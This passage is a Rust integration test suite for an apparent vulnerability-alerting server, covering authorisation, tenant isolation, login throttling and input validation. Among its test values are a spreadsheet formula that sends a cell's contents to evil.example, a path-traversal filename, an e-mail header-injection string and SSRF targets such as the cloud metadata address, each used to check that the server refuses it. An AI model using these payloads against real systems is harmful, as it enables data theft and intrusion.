//! The API in process: requests go through `ward_server::router` with tower's `oneshot`, on a
//! real SQLite file and a real PostgreSQL schema. Authorisation is checked for every operation
//! of the one table the router is built from, so a new operation is covered the day it is added.

use axum::Router;
use axum::body::Body;
use axum::http::Request;
use serde_json::{Value, json};
use tower::ServiceExt;
use ward_model::{SightingsBundle, StixObject};
use ward_priority::Policy;
use ward_server::openapi::{Access, ROUTES};
use ward_store::Role;
use ward_testdata::federation::Federation;
use ward_testdata::{TestDb, epmm_advisory};

/// The federation behind the router.
struct App {
    router: Router,
    f: Federation,
}

impl App {
    /// The federation, with the EPMM advisory in its knowledge base.
    async fn new(db: &TestDb) -> Self {
        let app = Self::without_knowledge(db).await;
        let mut tx = app.f.store.begin_import().await.unwrap();
        tx.upsert_advisory(&epmm_advisory(20, "12.5.0.1"))
            .await
            .unwrap();
        tx.commit(&json!({})).await.unwrap();
        app
    }

    /// The federation with an empty knowledge base.
    async fn without_knowledge(db: &TestDb) -> Self {
        let f = Federation::create(db.location()).await;
        let router = ward_server::router(f.store.clone(), policy());
        Self { router, f }
    }

    /// One request as a client on loopback sends it: the status and the JSON body (`null`
    /// when the body is not JSON).
    async fn call(
        &self,
        method: &str,
        path: &str,
        token: Option<&str>,
        body: &[u8],
    ) -> (u16, Value) {
        self.call_from([127, 0, 0, 1], method, path, token, body)
            .await
    }

    /// A request from the client address `from`.
    async fn call_from(
        &self,
        from: [u8; 4],
        method: &str,
        path: &str,
        token: Option<&str>,
        body: &[u8],
    ) -> (u16, Value) {
        let mut request = Request::builder()
            .method(method)
            .uri(path)
            .header("content-type", "application/json")
            .extension(axum::extract::ConnectInfo(std::net::SocketAddr::from((
                from, 40000,
            ))));
        if let Some(token) = token {
            request = request.header("authorization", format!("Bearer {token}"));
        }
        let response = self
            .router
            .clone()
            .oneshot(request.body(Body::from(body.to_vec())).unwrap())
            .await
            .unwrap();
        let status = response.status().as_u16();
        let bytes = axum::body::to_bytes(response.into_body(), 64 << 20)
            .await
            .unwrap();
        (
            status,
            serde_json::from_slice(&bytes).unwrap_or(Value::Null),
        )
    }

    /// `email` made a user of rxa with `password` and `role`.
    async fn user(
        &self,
        email: &str,
        password: &str,
        role: Role,
    ) -> Result<ward_store::UserInfo, ward_store::StoreError> {
        self.f
            .store
            .create_user("cli:test", "rxa", email, password, role)
            .await
    }

    async fn get(&self, path: &str, token: &str) -> (u16, Value) {
        self.call("GET", path, Some(token), b"").await
    }

    async fn post(&self, path: &str, token: &str, body: &[u8]) -> (u16, Value) {
        self.call("POST", path, Some(token), body).await
    }
}

fn policy() -> Policy {
    Policy::load("nhs-hsa").unwrap()
}

/// The demo's feed files (public records, `crates/ward/demo/README.md`).
fn demo_feed(name: &str) -> Vec<u8> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../ward/demo/feeds");
    std::fs::read(dir.join(name)).unwrap()
}

/// A body a permitted caller could send to the operation: every documented field with a
/// plausible value (so that only the role decides, not a malformed body).
fn plausible_body(route: &ward_server::openapi::Route) -> Vec<u8> {
    match route.body {
        ward_server::openapi::Body::None => Vec::new(),
        ward_server::openapi::Body::File(_) => b"not a real file".to_vec(),
        ward_server::openapi::Body::Json(fields) => {
            let mut body = serde_json::Map::new();
            for (name, _, _, _) in fields {
                let value = match *name {
                    "organisation" => continue,
                    "exposure" => json!("open"),
                    "criticality" => json!("high"),
                    "tags" => json!([]),
                    "kind" => json!("webhook"),
                    "target" => json!("https://receiver.example/hook"),
                    "secret" => json!("0123456789abcdef0123"),
                    "vulnerabilities" => json!(["CVE-2025-4427"]),
                    "dry_run" => json!(true),
                    "justification" => json!("component_not_present"),
                    "until" => json!("2099-01-01T00:00:00Z"),
                    "remediate_by" => json!("2099-01-01T00:00:00Z"),
                    "vulnerability" => json!("CVE-2025-4427"),
                    "status" => json!("under_investigation"),
                    "products" | "references" => json!([]),
                    "action_category" => json!("mitigation"),
                    "supersedes" => continue,
                    "consent" => json!(true),
                    "ports" => json!([443]),
                    "fingerprints" => json!([]),
                    _ => json!("x"),
                };
                body.insert((*name).to_owned(), value);
            }
            Value::Object(body).to_string().into_bytes()
        }
    }
}

/// The operation's path with its parameters filled (an id that exists nowhere) and the query
/// parameters it cannot do without.
fn plausible_path(route: &ward_server::openapi::Route) -> String {
    let path = route
        .path
        .replace("{id}", "999999")
        .replace("{action}", "acknowledge");
    match route.operation_id {
        "importKnowledge" => format!("{path}?filename=known_exploited_vulnerabilities.json"),
        "uploadInventory" => format!("{path}?filename=inventory.csv"),
        _ => path,
    }
}

/// Every operation of the table: no token is 401 (unless public); a role the operation does
/// not name is 403 and changes nothing; a role it names is never refused for its role.
async fn every_operation_refuses_anonymous_callers_and_roles_it_does_not_name(db: TestDb) {
    let app = App::new(&db).await;
    let callers: Vec<(Role, &str, &str)> = Role::ALL
        .into_iter()
        .map(|role| {
            let org = if role.is_central() {
                "nhs-england"
            } else {
                "rxa"
            };
            (role, org, app.f.token(org, role))
        })
        .collect();
    for route in ROUTES {
        let method = route.method.to_uppercase();
        let path = plausible_path(route);
        let body = plausible_body(route);
        if matches!(route.access, Access::Public) {
            continue;
        }
        let (status, answer) = app.call(&method, &path, None, &body).await;
        assert_eq!(status, 401, "{method} {path} without a token: {answer}");
        for (role, org, token) in &callers {
            let allowed = match route.access {
                Access::Roles(roles) => roles.contains(&role.as_str()),
                Access::Any | Access::Public => true,
            };
            let audit_before = app.f.store.verify_audit().await.unwrap().entries;
            let (status, answer) = app.call(&method, &path, Some(token), &body).await;
            if allowed {
                assert!(
                    status != 401 && status != 403,
                    "{method} {path} as {role} of {org}: {status} {answer}"
                );
            } else {
                assert_eq!(status, 403, "{method} {path} as {role} of {org}: {answer}");
                assert!(
                    answer["error"]
                        .as_str()
                        .unwrap()
                        .contains("your role may not"),
                    "{answer}"
                );
                let audit_after = app.f.store.verify_audit().await.unwrap().entries;
                assert_eq!(
                    audit_before, audit_after,
                    "a refused {method} {path} changed something"
                );
            }
        }
    }
}

/// The EPMM test bench's inventory as Ward CSV.
fn epmm_csv(version: &str) -> Vec<u8> {
    format!("asset,cpe\nmdm-01,cpe:2.3:a:ivanti:endpoint_manager_mobile:{version}:*:*:*:*:*:*:*\n")
        .into_bytes()
}

/// What `ward hunt --report` sends for one exploit request.
fn sightings_bundle() -> Vec<u8> {
    let bundle = SightingsBundle {
        kind: SightingsBundle::KIND.into(),
        id: Some("bundle--6c0b4b8e-8f0a-4c9b-9d3e-000000000001".into()),
        objects: vec![
            StixObject {
                kind: StixObject::INDICATOR.into(),
                id: Some("indicator--6c0b4b8e-8f0a-4c9b-9d3e-000000000002".into()),
                name: Some("Ivanti EPMM exploitation (CVE-2025-4427)".into()),
                pattern_type: Some("sigma".into()),
                pattern: Some("id: epmm".into()),
                ..StixObject::default()
            },
            StixObject {
                kind: StixObject::SIGHTING.into(),
                id: Some("sighting--6c0b4b8e-8f0a-4c9b-9d3e-000000000003".into()),
                sighting_of_ref: Some("indicator--6c0b4b8e-8f0a-4c9b-9d3e-000000000002".into()),
                first_seen: Some("2025-05-15T21:20:05Z".into()),
                last_seen: Some("2025-05-15T21:20:05Z".into()),
                count: Some(1),
                x_ward_level: Some("high".into()),
                ..StixObject::default()
            },
        ],
    };
    serde_json::to_vec(&bundle).unwrap()
}

/// Another member's data does not exist for a member: not in any list, 403 when asked for
/// by name, 404 by id, and nothing of it can be changed.
async fn another_member_never_sees_a_members_data(db: TestDb) {
    let app = App::new(&db).await;
    let rxa_admin = app.f.token("rxa", Role::MemberAdmin);
    // rxa: a possible compromise, and an EPMM server at an affected version.
    let (status, report) = app
        .post(
            "/api/v1/sightings",
            app.f.token("rxa", Role::MemberAnalyst),
            &sightings_bundle(),
        )
        .await;
    assert_eq!(status, 201, "{report}");
    let compromise = report["alerts"][0]["id"].as_i64().unwrap();
    let (status, asset) = app
        .post(
            "/api/v1/assets",
            rxa_admin,
            br#"{"name":"mdm-01","exposure":"open","criticality":"high"}"#,
        )
        .await;
    assert_eq!(status, 201, "{asset}");
    let asset = asset["asset"]["id"].as_i64().unwrap();
    let (status, upload) = app
        .post(
            &format!("/api/v1/assets/{asset}/inventory?filename=epmm.csv"),
            rxa_admin,
            &epmm_csv("12.5.0.0"),
        )
        .await;
    assert_eq!(status, 201, "{upload}");
    assert_eq!(
        upload["new"][0]["vulnerability"], "CVE-2025-4427",
        "{upload}"
    );
    // The central team issues the EPMM alert: rxa is affected (rxb is asked to confirm).
    let (status, issued) = app
        .post(
            "/api/v1/alerts/issue",
            app.f.token("nhs-england", Role::CentralAnalyst),
            br#"{"vulnerabilities":["CVE-2025-4427"],"note":"Patch EPMM to 12.5.0.1"}"#,
        )
        .await;
    assert_eq!(status, 201, "{issued}");
    assert_eq!(issued["preview"][0]["affected"], json!(["rxa"]), "{issued}");
    let (_, alerts) = app.get("/api/v1/alerts", rxa_admin).await;
    assert_eq!(alerts["alerts"].as_array().unwrap().len(), 2, "{alerts}");
    let vulnerability_alert = alerts["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["kind"] == "vulnerability")
        .unwrap()["id"]
        .as_i64()
        .unwrap();

    for (role, token) in app.f.member_tokens("rxb") {
        for path in [
            "/api/v1/me",
            "/api/v1/organisations",
            "/api/v1/sightings",
            "/api/v1/alerts",
            "/api/v1/assets",
            "/api/v1/findings",
            "/api/v1/findings?search=mdm",
            "/api/v1/channels",
            "/api/v1/compliance/alerts",
            "/api/v1/compliance/members",
        ] {
            let (status, body) = app.get(path, token).await;
            assert_eq!(status, 200, "{role} {path}: {body}");
            let text = body.to_string();
            for theirs in [
                "\"rxa\"",
                "Royal Example",
                "mdm-01",
                "endpoint_manager_mobile",
                "indicator--6c0b4b8e",
            ] {
                assert!(
                    !text.contains(theirs),
                    "{role} of rxb saw {theirs} at {path}: {text}"
                );
            }
        }
        for path in [
            "/api/v1/sightings?organisation=rxa",
            "/api/v1/alerts?organisation=rxa",
            "/api/v1/assets?organisation=rxa",
            "/api/v1/findings?organisation=rxa",
            "/api/v1/channels?organisation=rxa",
            "/api/v1/compliance/alerts?organisation=rxa",
            "/api/v1/audit",
        ] {
            let (status, body) = app.get(path, token).await;
            assert_eq!(status, 403, "{role} {path}: {body}");
        }
        for path in [
            format!("/api/v1/assets/{asset}"),
            format!("/api/v1/assets/{asset}/inventory"),
        ] {
            let (status, body) = app.get(&path, token).await;
            assert_eq!(status, 404, "{role} {path}: {body}");
            assert!(!body.to_string().contains("mdm-01"));
        }
        // Writes: the read-only role is refused for its role; writers find nothing to change.
        let refused = if role == Role::ReadOnly { 403 } else { 404 };
        let (status, _) = app
            .post(
                &format!("/api/v1/assets/{asset}/inventory?filename=epmm.csv"),
                token,
                &epmm_csv("12.5.0.1"),
            )
            .await;
        assert_eq!(status, refused, "{role} uploaded to rxa's asset");
        for alert in [compromise, vulnerability_alert] {
            let (status, _) = app
                .post(&format!("/api/v1/alerts/{alert}/acknowledge"), token, b"")
                .await;
            assert_eq!(status, refused, "{role} acknowledged rxa's alert {alert}");
        }
        // A report always lands in the caller's own organisation.
        let (status, _) = app
            .post(
                "/api/v1/organisations",
                token,
                br#"{"slug":"x","name":"x"}"#,
            )
            .await;
        assert_eq!(status, 403, "{role} created an organisation");
    }
    // rxa's alerts are as they were; its own analyst still sees both, open.
    let (_, alerts) = app
        .get("/api/v1/alerts", app.f.token("rxa", Role::ReadOnly))
        .await;
    let states: Vec<&str> = alerts["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["state"].as_str().unwrap())
        .collect();
    assert_eq!(states, ["open", "open"], "{alerts}");
    // The central team sees rxa by name.
    let (status, body) = app
        .get(
            "/api/v1/findings?organisation=rxa",
            app.f.token("nhs-england", Role::CentralAnalyst),
        )
        .await;
    assert_eq!(status, 200);
    assert_eq!(body["total"], 1, "{body}");
}

/// The document the server serves is valid OpenAPI 3.1 (checked by `openapi-spec-validator`)
/// and documents the operations members and hunts rely on.
async fn the_openapi_document_is_valid_openapi_3_1(db: TestDb) {
    let app = App::new(&db).await;
    let (status, doc) = app.call("GET", "/api/v1/openapi.json", None, b"").await;
    assert_eq!(status, 200);
    assert_eq!(doc["openapi"], "3.1.0");
    for (path, method) in [
        ("/api/v1/assets/{id}/inventory", "post"),
        ("/api/v1/alerts/issue", "post"),
        ("/api/v1/sightings", "post"),
        ("/api/v1/findings", "get"),
    ] {
        assert!(
            doc["paths"][path][method].is_object(),
            "{method} {path} undocumented"
        );
    }
    let script = "import sys, json\nfrom openapi_spec_validator import validate\nvalidate(json.load(sys.stdin))\nprint('valid')";
    if let Some((ok, out, err)) = ward_testdata::python(
        &["openapi_spec_validator"],
        script,
        doc.to_string().as_bytes(),
    ) {
        assert!(ok, "{err}");
        assert_eq!(out.trim(), "valid");
    }
}

/// Central admins import feeds over HTTP: other roles are refused, the name chooses a parser
/// and never a place on disk, a broken file is refused naming it and imports nothing, and the
/// records imported reach the affected member's findings when continuous matching runs.
async fn a_central_admin_imports_feeds_over_http_and_a_bad_one_changes_nothing(db: TestDb) {
    let app = App::without_knowledge(&db).await;
    let central = app.f.token("nhs-england", Role::CentralAdmin);
    let rxa = app.f.token("rxa", Role::MemberAdmin);
    let (_, asset) = app
        .post("/api/v1/assets", rxa, br#"{"name":"mdm-01"}"#)
        .await;
    let a = asset["asset"]["id"].as_i64().unwrap();
    let (status, _) = app
        .post(
            &format!("/api/v1/assets/{a}/inventory?filename=epmm.csv"),
            rxa,
            &epmm_csv("12.5.0.0"),
        )
        .await;
    assert_eq!(status, 201);
    let record = demo_feed("cve5-CVE-2025-4427.json");
    let imports = "/api/v1/knowledge/imports";

    // Only central admins import.
    for token in [
        app.f.token("nhs-england", Role::CentralAnalyst),
        rxa,
        app.f.token("rxa", Role::MemberAnalyst),
    ] {
        let (status, body) = app
            .post(&format!("{imports}?filename=cve.json"), token, &record)
            .await;
        assert_eq!(status, 403, "{body}");
    }
    // The name chooses a parser, never a place on disk.
    for name in ["../../etc/passwd.json", ".hidden.json", "a%20b.json", ""] {
        let (status, body) = app
            .post(&format!("{imports}?filename={name}"), central, &record)
            .await;
        assert_eq!(status, 400, "{name}: {body}");
    }
    // A broken document: 400 naming the file, and nothing imported.
    let (_, audit_before) = app.get("/api/v1/audit", central).await;
    let (status, body) = app
        .post(
            &format!("{imports}?filename=CVE-2025-4427.json&strict=true"),
            central,
            &record[..record.len() / 2],
        )
        .await;
    assert_eq!(status, 400, "{body}");
    let message = body["error"].as_str().unwrap();
    assert!(message.contains("CVE-2025-4427.json"), "{message}");
    assert!(message.contains("nothing was imported"), "{message}");
    assert!(
        !message.contains("/tmp"),
        "the temporary folder leaks: {message}"
    );
    let (_, audit_after) = app.get("/api/v1/audit", central).await;
    assert_eq!(audit_before["entries"], audit_after["entries"]);
    assert_eq!(app.f.store.counts().await.unwrap().vulnerabilities, 0);

    // The records, one request each: imported and audited.
    for name in [
        "cve5-CVE-2025-4427.json",
        "cve5-CVE-2025-4428.json",
        "kev-subset.json",
    ] {
        let (status, body) = app
            .post(
                &format!("{imports}?filename={name}"),
                central,
                &demo_feed(name),
            )
            .await;
        assert_eq!(status, 201, "{body}");
        assert_eq!(body["import"]["committed"], true, "{body}");
        assert!(
            body["import"]["errors"].as_array().unwrap().is_empty(),
            "{body}"
        );
    }
    let (_, audit) = app.get("/api/v1/audit", central).await;
    let imported: Vec<&str> = audit["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "knowledge.import")
        .map(|e| e["target"].as_str().unwrap())
        .collect();
    assert_eq!(
        imported,
        [
            "cve5-CVE-2025-4427.json",
            "cve5-CVE-2025-4428.json",
            "kev-subset.json"
        ]
    );
    // Continuous matching (what `ward serve` runs every two seconds) takes them to rxa.
    let (_, before) = app.get("/api/v1/findings", rxa).await;
    assert_eq!(before["total"], 0, "{before}");
    let run = ward_server::match_knowledge_changes(&app.f.store, &policy())
        .await
        .unwrap();
    assert_eq!((run.assets, run.new), (1, 2), "{run:?}");
    let (_, after) = app.get("/api/v1/findings", rxa).await;
    assert_eq!(after["total"], 2, "{after}");
    let (_, alerts) = app.get("/api/v1/alerts?organisation=rxa", central).await;
    let epmm = alerts["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["subject"] == "CVE-2025-4427")
        .unwrap_or_else(|| panic!("no CVE-2025-4427 alert for rxa: {alerts}"));
    assert_eq!(epmm["state"], "open", "{epmm}");
}

/// A vulnerability id that a spreadsheet would run as a formula (an imported record's id is
/// text from a feed) reaches the compliance CSV defused, and the JSON as it is.
async fn compliance_csv_cells_never_run_as_formulas(db: TestDb) {
    let app = App::without_knowledge(&db).await;
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let mut advisory = epmm_advisory(20, "12.5.0.1");
    advisory.id = hostile.into();
    let mut tx = app.f.store.begin_import().await.unwrap();
    tx.upsert_advisory(&advisory).await.unwrap();
    tx.commit(&json!({})).await.unwrap();
    let central = app.f.token("nhs-england", Role::CentralAnalyst);
    let body = json!({"vulnerabilities": [hostile]}).to_string();
    let (status, issued) = app
        .post("/api/v1/alerts/issue", central, body.as_bytes())
        .await;
    assert_eq!(status, 201, "{issued}");

    let (_, report) = app.get("/api/v1/compliance/alerts", central).await;
    assert_eq!(report["alerts"][0]["vulnerability"], hostile, "{report}");
    let request = Request::builder()
        .uri("/api/v1/compliance/alerts?format=csv")
        .header("authorization", format!("Bearer {central}"))
        .body(Body::empty())
        .unwrap();
    let response = app.router.clone().oneshot(request).await.unwrap();
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    let bytes = axum::body::to_bytes(response.into_body(), 1 << 20)
        .await
        .unwrap();
    let mut rows = csv::Reader::from_reader(bytes.as_ref());
    let header: Vec<String> = rows.headers().unwrap().iter().map(str::to_owned).collect();
    let subject = header.iter().position(|h| h == "vulnerability").unwrap();
    let cells: Vec<String> = rows
        .records()
        .map(|r| r.unwrap()[subject].to_owned())
        .collect();
    assert_eq!(cells, [format!("'{hostile}")]);
}

/// An address or password longer than any account's is refused before any work and leaves
/// nothing in the failure log (an anonymous caller cannot fill the disk through it); ordinary
/// failures are still counted, and the right password still signs in.
async fn oversized_logins_are_refused_before_any_work_and_leave_nothing(db: TestDb) {
    let app = App::new(&db).await;
    app.user(
        "lead@rxa.example",
        "correct horse battery staple",
        Role::MemberAdmin,
    )
    .await
    .unwrap();
    let failures = || db.scalar("SELECT CAST(COUNT(*) AS TEXT) FROM login_failure");
    let long_email = format!("{}@rxa.example", "a".repeat(300));
    let long_password = "p".repeat(2000);
    for (email, password) in [
        (long_email.as_str(), "correct horse battery staple"),
        ("lead@rxa.example", long_password.as_str()),
    ] {
        let body = json!({"email": email, "password": password}).to_string();
        let (status, answer) = app
            .call("POST", "/api/v1/login", None, body.as_bytes())
            .await;
        assert_eq!(status, 401, "{answer}");
        assert_eq!(failures(), "0");
    }
    let wrong = json!({"email": "lead@rxa.example", "password": "wrong password!"}).to_string();
    let (status, _) = app
        .call("POST", "/api/v1/login", None, wrong.as_bytes())
        .await;
    assert_eq!(status, 401);
    assert_eq!(
        failures(),
        "3",
        "one per (email, address), per email and per address"
    );
    let right = json!({"email": "lead@rxa.example", "password": "correct horse battery staple"})
        .to_string();
    let (status, answer) = app
        .call("POST", "/api/v1/login", None, right.as_bytes())
        .await;
    assert_eq!(status, 200, "{answer}");
    // Nor can an account be made with a password no one could sign in with.
    let refused = app
        .user("other@rxa.example", &long_password, Role::ReadOnly)
        .await
        .unwrap_err();
    assert!(
        refused.to_string().contains("at most 1024 bytes"),
        "{refused}"
    );
}

/// Pruning (every few seconds in `ward serve`, off the login path) deletes what no longer
/// counts: failures older than the throttling window and expired sessions (neither grows
/// without end), and leaves recent ones alone; a login itself writes only its own attempt.
async fn logins_prune_old_failures_and_expired_sessions(db: TestDb) {
    let app = App::new(&db).await;
    app.user(
        "lead@rxa.example",
        "correct horse battery staple",
        Role::MemberAdmin,
    )
    .await
    .unwrap();
    let user = db.scalar("SELECT CAST(id AS TEXT) FROM user_account");
    db.execute(&format!(
        "INSERT INTO login_failure (key, at) VALUES ('email:old@rxa.example', '2020-01-01T00:00:00.000Z');
         INSERT INTO session (id_hash, user_id, csrf_token, created_at, expires_at)
             VALUES ('expired', {user}, 'x', '2020-01-01T00:00:00.000Z', '2020-01-01T12:00:00.000Z');
         INSERT INTO session (id_hash, user_id, csrf_token, created_at, expires_at)
             VALUES ('current', {user}, 'x', '2020-01-01T00:00:00.000Z', '2999-01-01T00:00:00.000Z');"
    ))
    .unwrap();
    let wrong = json!({"email": "lead@rxa.example", "password": "wrong password!"}).to_string();
    let (status, _) = app
        .call("POST", "/api/v1/login", None, wrong.as_bytes())
        .await;
    assert_eq!(status, 401);
    let old = || db.scalar("SELECT CAST(COUNT(*) AS TEXT) FROM login_failure WHERE at < '2021'");
    assert_eq!(old(), "1", "the login path deletes nothing");
    assert_eq!(app.f.store.prune_logins().await.unwrap(), 2);
    assert_eq!(old(), "0");
    assert_eq!(
        db.scalar("SELECT CAST(COUNT(*) AS TEXT) FROM login_failure"),
        "3",
        "this attempt's failures stay"
    );
    let sessions = |id: &str| {
        db.scalar(&format!(
            "SELECT CAST(COUNT(*) AS TEXT) FROM session WHERE id_hash = '{id}'"
        ))
    };
    assert_eq!(sessions("expired"), "0");
    assert_eq!(sessions("current"), "1");
}

/// A sighting's level is one of Sigma's words; anything else (a line break and a header for
/// the alert e-mail, say) is refused naming the object and field, and nothing is recorded.
async fn sighting_levels_are_sigma_words(db: TestDb) {
    let app = App::new(&db).await;
    let token = app.f.token("rxa", Role::MemberAnalyst);
    let mut bundle: Value = serde_json::from_slice(&sightings_bundle()).unwrap();
    bundle["objects"][1]["x_ward_level"] = json!("high\r\nBcc: victim@example.org");
    let (status, answer) = app
        .post("/api/v1/sightings", token, bundle.to_string().as_bytes())
        .await;
    assert_eq!(status, 400, "{answer}");
    assert!(
        answer["error"]
            .as_str()
            .unwrap()
            .starts_with("objects[1].x_ward_level: "),
        "{answer}"
    );
    let (_, listed) = app.get("/api/v1/sightings", token).await;
    assert_eq!(listed["sightings"], json!([]));
    let (_, alerts) = app.get("/api/v1/alerts", token).await;
    assert_eq!(alerts["alerts"], json!([]));
    // Sigma's own words pass.
    bundle["objects"][1]["x_ward_level"] = json!("critical");
    let (status, answer) = app
        .post("/api/v1/sightings", token, bundle.to_string().as_bytes())
        .await;
    assert_eq!(status, 201, "{answer}");
}

/// A member admin cannot point a channel at the central network by address, and never reads
/// the network's words for why a delivery failed (only a coarse state).
async fn channel_targets_are_checked_and_members_see_only_a_delivery_state(db: TestDb) {
    let app = App::new(&db).await;
    let admin = app.f.token("rxa", Role::MemberAdmin);
    let secret = "sixteen-characters-at-least";
    for (kind, target, why) in [
        ("webhook", "https://127.0.0.1:8443/hook", "loopback"),
        ("webhook", "http://0x7f000001:8080/hook", "loopback"),
        ("webhook", "https://169.254.169.254/latest", "link-local"),
        ("webhook", "https://[::ffff:10.0.0.1]/hook", "private"),
        ("webhook", "https://[fd00::1]/hook", "unique-local"),
        ("webhook", "http://receiver.example.org/hook", "https"),
        (
            "webhook",
            "https://user:pw@receiver.example.org/hook",
            "credentials",
        ),
        ("syslog", "tcp://127.0.0.1:5432", "loopback"),
        ("syslog", "udp://192.168.0.10:514", "private"),
    ] {
        let body = json!({"kind": kind, "target": target, "secret": secret});
        let (status, answer) = app
            .post("/api/v1/channels", admin, body.to_string().as_bytes())
            .await;
        assert_eq!(status, 422, "{target}: {answer}");
        let error = answer["error"].as_str().unwrap();
        assert!(
            error.starts_with("target: ") && error.contains(why),
            "{target}: {error}"
        );
    }
    let (_, listed) = app.get("/api/v1/channels", admin).await;
    assert_eq!(
        listed["channels"],
        json!([]),
        "a refused channel was stored"
    );

    // A name passes at creation (it is checked whenever Ward connects).
    let body =
        json!({"kind": "webhook", "target": "https://hooks.rxa.example/ward", "secret": secret});
    let (status, answer) = app
        .post("/api/v1/channels", admin, body.to_string().as_bytes())
        .await;
    assert_eq!(status, 201, "{answer}");
    assert_eq!(answer["channel"]["delivery"], "idle");
    let analyst = app.f.token("rxa", Role::MemberAnalyst);
    let (status, _) = app
        .post("/api/v1/sightings", analyst, &sightings_bundle())
        .await;
    assert_eq!(status, 201);
    let claimed = app
        .f
        .store
        .claim_deliveries(10, chrono::Duration::seconds(30))
        .await
        .unwrap();
    let ours = claimed
        .iter()
        .find(|d| d.target == "https://hooks.rxa.example/ward")
        .expect("the sighting's alert was queued for the member's channel");
    let detail = "destination 10.1.2.3 is private (RFC 1918), which Ward does not connect to";
    app.f
        .store
        .delivery_failed(ours.id, ours.attempts, ward_store::Failure::Refused, detail)
        .await
        .unwrap();
    for role in [Role::MemberAdmin, Role::MemberAnalyst, Role::ReadOnly] {
        let (_, listed) = app.get("/api/v1/channels", app.f.token("rxa", role)).await;
        let channel = &listed["channels"][0];
        assert_eq!(channel["delivery"], "refused", "{role}: {listed}");
        assert!(channel.get("last_error").is_none(), "{role}: {listed}");
        assert!(!listed.to_string().contains("10.1.2.3"), "{role}: {listed}");
    }
    let central = app.f.token("nhs-england", Role::CentralAdmin);
    let (_, listed) = app.get("/api/v1/channels?organisation=rxa", central).await;
    assert_eq!(listed["channels"][0]["last_error"], detail, "{listed}");
    // The channel's creation is in the audit log the central team reads.
    let (_, audit) = app.get("/api/v1/audit", central).await;
    assert!(audit.to_string().contains("channel.add"), "{audit}");
}

/// A burst of concurrent guesses: each attempt is reserved before its password is checked, so
/// at most five are evaluated and the right password sent after them is refused too — from
/// that address. The owner, elsewhere, still signs in (strangers cannot lock them out).
async fn concurrent_guesses_cannot_race_the_throttle(db: TestDb) {
    let app = App::new(&db).await;
    let password = "correct horse battery staple";
    app.user("lead@rxa.example", password, Role::MemberAdmin)
        .await
        .unwrap();
    let guesses: Vec<_> = (0..40)
        .map(|i| {
            let body =
                json!({"email": "lead@rxa.example", "password": format!("guess number {i}")})
                    .to_string();
            let app = &app;
            async move {
                app.call_from(
                    [203, 0, 113, 7],
                    "POST",
                    "/api/v1/login",
                    None,
                    body.as_bytes(),
                )
                .await
                .0
            }
        })
        .collect();
    let statuses = futures_util::future::join_all(guesses).await;
    let evaluated = statuses.iter().filter(|s| **s == 401).count();
    let throttled = statuses.iter().filter(|s| **s == 429).count();
    assert_eq!(evaluated, 5, "{statuses:?}");
    assert_eq!(throttled, 35, "{statuses:?}");
    let right = json!({"email": "lead@rxa.example", "password": password}).to_string();
    let (status, _) = app
        .call_from(
            [203, 0, 113, 7],
            "POST",
            "/api/v1/login",
            None,
            right.as_bytes(),
        )
        .await;
    assert_eq!(status, 429, "the guesser's address is locked out");
    let (status, answer) = app
        .call_from(
            [198, 51, 100, 20],
            "POST",
            "/api/v1/login",
            None,
            right.as_bytes(),
        )
        .await;
    assert_eq!(status, 200, "the owner elsewhere is not: {answer}");
}

/// Passwords anyone would guess are refused when an account is made.
async fn guessable_passwords_are_refused(db: TestDb) {
    let app = App::new(&db).await;
    for (password, why) in [
        ("            ", "too easy to guess"),
        ("password1234", "too easy to guess"),
        ("qwertyuiop123", "too easy to guess"),
        ("lead@rxa.example", "too easy to guess"),
        ("short", "at least 12 characters"),
    ] {
        let e = app
            .user("lead@rxa.example", password, Role::ReadOnly)
            .await
            .unwrap_err();
        assert!(e.to_string().contains(why), "{password:?}: {e}");
    }
    app.user(
        "lead@rxa.example",
        "violet tugboat marmalade quorum",
        Role::ReadOnly,
    )
    .await
    .unwrap();
}

/// A risk is accepted for the policy's maximum (180 days by default) at most: "until
/// 9999-12-31" is refused and changes nothing.
async fn risk_acceptance_is_capped_by_policy(db: TestDb) {
    let app = App::new(&db).await;
    let admin = app.f.token("rxa", Role::MemberAdmin);
    let (_, asset) = app
        .post(
            "/api/v1/assets",
            admin,
            br#"{"name":"mdm-01","exposure":"open","criticality":"high"}"#,
        )
        .await;
    let asset = asset["asset"]["id"].as_i64().unwrap();
    let (status, _) = app
        .post(
            &format!("/api/v1/assets/{asset}/inventory?filename=epmm.csv"),
            admin,
            &epmm_csv("12.5.0.0"),
        )
        .await;
    assert_eq!(status, 201);
    let (status, issued) = app
        .post(
            "/api/v1/alerts/issue",
            app.f.token("nhs-england", Role::CentralAnalyst),
            br#"{"vulnerabilities":["CVE-2025-4427"]}"#,
        )
        .await;
    assert_eq!(status, 201, "{issued}");
    let (_, alerts) = app.get("/api/v1/alerts", admin).await;
    let alert = alerts["alerts"][0]["id"]
        .as_i64()
        .expect("an alert was issued");
    let forever = json!({"justification": "isolated network", "until": "9999-12-31T00:00:00Z"});
    let (status, answer) = app
        .post(
            &format!("/api/v1/alerts/{alert}/accept-risk"),
            admin,
            forever.to_string().as_bytes(),
        )
        .await;
    assert_eq!(status, 422, "{answer}");
    assert!(
        answer["error"]
            .as_str()
            .unwrap()
            .contains("180 days at most"),
        "{answer}"
    );
    let (_, after) = app.get("/api/v1/alerts", admin).await;
    assert_eq!(after["alerts"][0]["state"], "open", "{after}");
    let month = (chrono::Utc::now() + chrono::Duration::days(30)).to_rfc3339();
    let (status, answer) = app
        .post(
            &format!("/api/v1/alerts/{alert}/accept-risk"),
            admin,
            json!({"justification": "isolated network", "until": month})
                .to_string()
                .as_bytes(),
        )
        .await;
    assert_eq!(status, 200, "{answer}");
}

ward_testdata::backend_tests!(
    risk_acceptance_is_capped_by_policy,
    concurrent_guesses_cannot_race_the_throttle,
    guessable_passwords_are_refused,
    channel_targets_are_checked_and_members_see_only_a_delivery_state,
    oversized_logins_are_refused_before_any_work_and_leave_nothing,
    sighting_levels_are_sigma_words,
    logins_prune_old_failures_and_expired_sessions,
    compliance_csv_cells_never_run_as_formulas,
    a_central_admin_imports_feeds_over_http_and_a_bad_one_changes_nothing,
